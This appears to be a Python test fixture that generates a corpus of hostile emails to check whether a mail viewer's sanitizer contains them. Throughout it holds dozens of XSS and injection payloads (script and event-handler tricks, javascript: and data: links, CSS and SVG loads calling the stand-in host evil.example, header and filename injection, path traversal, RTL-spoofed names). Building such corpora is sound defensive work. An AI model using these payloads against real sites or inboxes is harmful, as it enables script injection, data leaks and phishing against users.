"""Messages made to break out of the page that shows them.

What runs would set ``pwned`` in the window on top, or ask evil.example for something.
"""

from __future__ import annotations

# ruff: noqa: E501 - the payloads are what they are
from collections.abc import Iterator
from email.message import EmailMessage

RUN = "top.pwned=1;document.title='pwned';fetch('http://evil.example/ran')"
_EVIL = "http://evil.example"

_BODIES = {
    "script": f"<script>{RUN}</script>",
    "script-loaded": f'<script src="{_EVIL}/x.js"></script>',
    "script-module": f'<script type="module">import "{_EVIL}/m.js"</script>',
    "script-split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-odd-case": f"<ScRiPt\n/x>{RUN}</sCrIpT\t>",
    "script-slashes": f"<script/src={_EVIL}/x.js></script>",
    "script-unclosed": f"<p>text<script>{RUN}",
    "script-in-style": f"<style></style><script>{RUN}</script></style>",
    "script-in-title": f"<title></title><script>{RUN}</script>",
    "script-in-comment": f"<!--><script>{RUN}</script>--><!--!><script>{RUN}</script>-->",
    "script-in-cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "script-in-noscript": f'<noscript><p title="</noscript><script>{RUN}</script>">',
    "script-in-textarea": f"<textarea></textarea><script>{RUN}</script></textarea>",
    "script-in-template": f"<template><script>{RUN}</script></template>",
    "script-nul": f"<scr\0ipt>{RUN}</script>",
    "img-onerror": f'<img src=x onerror="{RUN}">',
    "img-onerror-unquoted": "<img src=x onerror=top.pwned=1>",
    "img-onerror-slashes": "<img/src=x/onerror=top.pwned=1//>",
    "img-onerror-backticks": "<img src=`x`onerror=top.pwned=1>",
    "body-onload": f'<body onload="{RUN}" onpageshow="{RUN}">',
    "handlers": f'<p onmouseover="{RUN}" onfocus="{RUN}" autofocus tabindex=0 '
    f'onanimationstart="{RUN}" style="animation:a 1s">bait</p>'
    f'<details open ontoggle="{RUN}">x</details><input autofocus onfocus="{RUN}">',
    "attribute-quotes": f"<p title='\"><script>{RUN}</script>' class=\"'><img src=x onerror={RUN}>\">",
    "javascript-link": f'<a href="javascript:{RUN}">bait</a>',
    "javascript-link-hidden": '<a href=" jAvA&#x0a;scr\tipt&colon;top.pwned=1">bait</a>'
    '<a href="\x01javascript:top.pwned=1">bait</a>',
    "javascript-area": '<map name=m><area href="javascript:top.pwned=1" shape=default></map>'
    '<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=99 height=99>',
    "vbscript-link": '<a href="vbscript:msgbox(1)">bait</a><a href="file:///etc/passwd">bait</a>',
    "data-link": f'<a href="data:text/html,<script>{RUN}</script>">bait</a>',
    "data-frame": f'<iframe src="data:text/html,<script>{RUN}</script>"></iframe>',
    "data-svg": '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 '
    f'onload=%22top.pwned=1%22><image href=%22{_EVIL}/i.png%22/></svg>">',
    "srcdoc": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frames": f'<frameset><frame src="{_EVIL}/f"></frameset><iframe src="{_EVIL}/i"></iframe>',
    "object-embed": f'<object data="{_EVIL}/o"></object><embed src="{_EVIL}/e">'
    f'<applet code="{_EVIL}/a"></applet><portal src="{_EVIL}/p"></portal>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={_EVIL}/refresh">',
    "meta-refresh-in-svg": f'<svg><style><meta http-equiv=refresh content="0;url={_EVIL}/a"></style>'
    f'</svg><math><mtext></p><meta http-equiv=refresh content="0;url={_EVIL}/b"></math>',
    "meta-policy": "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">"
    f"<script>{RUN}</script>",
    "base": f'<base href="{_EVIL}/" target="_top"><img src="i.png"><a href="x">bait</a>',
    "form": f'<form action="{_EVIL}/f" id=f><input name=q><button autofocus>bait</button></form>'
    f'<button form=f formaction="{_EVIL}/b">bait</button><isindex action="{_EVIL}/x">',
    "links-that-load": "".join(
        f'<link rel="{rel}" href="{_EVIL}/{rel}">'
        for rel in ("stylesheet", "prefetch", "preload", "dns-prefetch", "preconnect", "icon",
                    "manifest", "modulepreload", "prerender", "import")
    ),
    "css-import-split": f'<style>@im@import x;port "{_EVIL}/a.css";</style>'
    f'<style>@import url(foo;bar);@import url({_EVIL}/b.css);</style>',
    "css-import": f'<style>@import "{_EVIL}/a.css";@import url({_EVIL}/b.css);</style>',
    "css-urls": f"<style>body{{background:url({_EVIL}/a)}}p{{list-style:url('{_EVIL}/b');"
    f'cursor:url({_EVIL}/c),auto;content:url({_EVIL}/d);border-image:url({_EVIL}/e)}}</style><p>x',
    "css-escapes": f"<style>body{{background:\\75\\72\\6c({_EVIL}/a)}}"
    f"@\\69mport '{_EVIL}/b';p{{background:u\\rl({_EVIL}/c)}}</style><p>x",
    "css-font": f'<style>@font-face{{font-family:x;src:url({_EVIL}/f.woff)}}p{{font-family:x}}'
    f'@namespace url({_EVIL}/n);</style><p>x',
    "css-image-set": f'<p style="background:image-set(\'{_EVIL}/a\' 1x);'
    f'background:-webkit-image-set(url({_EVIL}/b) 1x)">x',
    "css-expression": '<p style="width:expression(top.pwned=1);behavior:url(#x);'
    '-moz-binding:url(x)">x',
    "css-closes": f'<style>p{{}}</style><img src=x onerror="{RUN}"><style>',
    "css-covers": '<div style="position:fixed;inset:-9999px;z-index:2147483647;'
    'background:#fff">Your session has expired</div>',
    "images-that-load": f'<img src="{_EVIL}/a"><img srcset="{_EVIL}/b 1x"><img lowsrc="{_EVIL}/c">'
    f'<picture><source srcset="{_EVIL}/d"><img></picture><table background="{_EVIL}/e">'
    f'<video poster="{_EVIL}/f" src="{_EVIL}/g" autoplay></video><audio src="{_EVIL}/h" autoplay>'
    f'<input type=image src="{_EVIL}/i"><img src="//evil.example/j"><img src="\\\\evil.example\\k">',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><image href="{_EVIL}/s"/>'
    f'<use href="{_EVIL}/u#x"/><a href="javascript:top.pwned=1"><text y=20>bait</text></a>'
    '<set attributeName=href to="javascript:top.pwned=1"/><foreignObject><iframe '
    f'src="{_EVIL}/v"></iframe></foreignObject></svg>',
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    f'onerror={RUN}&gt;"></table></math><math href="javascript:top.pwned=1">bait</math>',
    "clobber": '<form id=location><img name=body><a id=top href="x:y"></a><img name=cookie>',
    "own-link": '<a href="http:/api/messages">bait</a><a href="http:api">bait</a>'
    '<a href="/api/messages" target=_top>bait</a><a href="http:\t/clear">bait</a>',
    "ping": f'<a href="#x" ping="{_EVIL}/ping">bait</a>',
    "top-link": '<a href="#here" target="_top">bait</a><a href="/" target="_parent">bait</a>',
    "nested": "<div>" * 10_000 + "deep" + "</div>" * 10_000,
    "nested-tables": "<table><tr><td>" * 3_000 + "deep",
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(20_000)) + ">x",
    "large": "<p>All work and no play makes Jack a dull boy.</p>\n" * (20 * (1 << 20) // 49),
}  # fmt: skip

_HEADERS = {
    "subject-html": ("Subject", f"<script>{RUN}</script>"),
    "subject-quotes": ("Subject", f'"><img src=x onerror={RUN}>'),
    "subject-template": ("Subject", "{{7*7}}{% raw %}${7*7}<%= 7*7 %>"),
    "subject-rtl": ("Subject", "\u202egnp.exe\u2066 \u2028 evil\u202c"),
    "subject-controls": ("Subject", "a\x00b\x1b[31mc\x08d\x9be"),
    "subject-long": ("Subject", "W" * 50_000),
    "from-html": ("From", f'"<img src=x onerror={RUN}>" <eva@example.com>'),
    "to-html": ("To", f'"\'><svg onload={RUN}>" <bob@example.com>'),
}

_FILES = {
    "name-html": ("image/png", f'"><img src=x onerror={RUN}>.png', b"\x89PNG"),
    "name-path": ("application/pdf", "../../../../etc/passwd", b"%PDF"),
    "name-newlines": ("text/html", "a\r\nContent-Type: text/html\r\n\r\n<script>.html", b"x"),
    "name-rtl": ("application/pdf", "invoice\u202efdp.exe", b"MZ"),
    "type-lies-png": ("image/png", "page.png", b"<script>top.pwned=1</script>"),
    "type-html": ("text/html", "page.html", f"<script>{RUN}</script>".encode()),
    "type-svg": ("image/svg+xml", "x.svg", f"<svg onload='{RUN}'/>".encode()),
    "type-xml": (
        "text/xml",
        "x.xml",
        b'<?xml-stylesheet href="http://evil.example/x.xsl"?><a/>',
    ),
    "type-odd": ('text/html;"\r\nX: y', "x", b"<script>top.pwned=1</script>"),
}


def corpus() -> Iterator[tuple[str, bytes]]:
    """Yield the name of each message, which its subject begins with, and the message."""
    for name, body in _BODIES.items():
        yield name, _raw(name, [("Content-Type", "text/html; charset=utf-8")], body)
    for name, (header, value) in _HEADERS.items():
        headers = [(header, value), ("Content-Type", "text/html; charset=utf-8")]
        yield name, _raw(name, headers, "<p>see above</p>")
    for name, (kind, filename, content) in _FILES.items():
        mail = EmailMessage()
        mail["Subject"] = name
        mail.set_content("<p>see the file</p>", subtype="html")
        mail.add_attachment(content, maintype="x", subtype="y", filename="PLACE")
        source = mail.as_bytes().replace(b"x/y", kind.encode()).replace(
            b'"PLACE"', b'"' + filename.replace('"', '\\"').encode() + b'"'
        )  # fmt: skip
        yield name, source
    yield "plain-text", _raw(
        "plain-text", [("Content-Type", "text/plain")],
        f"<script>{RUN}</script> javascript:{RUN} http://evil.example/\"onclick={RUN} \u202egnp",
    )  # fmt: skip
    yield "plain-declared-html", _raw(
        "plain-declared-html", [("Content-Type", "text/plain; x=text/html")], f"<script>{RUN}</script>"
    )  # fmt: skip
    yield "utf-7", _raw(
        "utf-7", [("Content-Type", "text/html; charset=utf-7")],
        "+ADw-script+AD4-top.pwned=1+ADw-/script+AD4-",
    )  # fmt: skip
    yield (
        "utf-16",
        b"Subject: utf-16\r\nContent-Type: text/html; charset=utf-16\r\n\r\n"
        + (f"<script>{RUN}</script>".encode("utf-16")),
    )


def _raw(name: str, headers: list[tuple[str, str]], body: str) -> bytes:
    if not any(header == "Subject" for header, _ in headers):
        headers = [("Subject", name), *headers]
    head = "".join(f"{header}: {value}\r\n" for header, value in headers)
    return f"{head}\r\n{body}\r\n".encode()
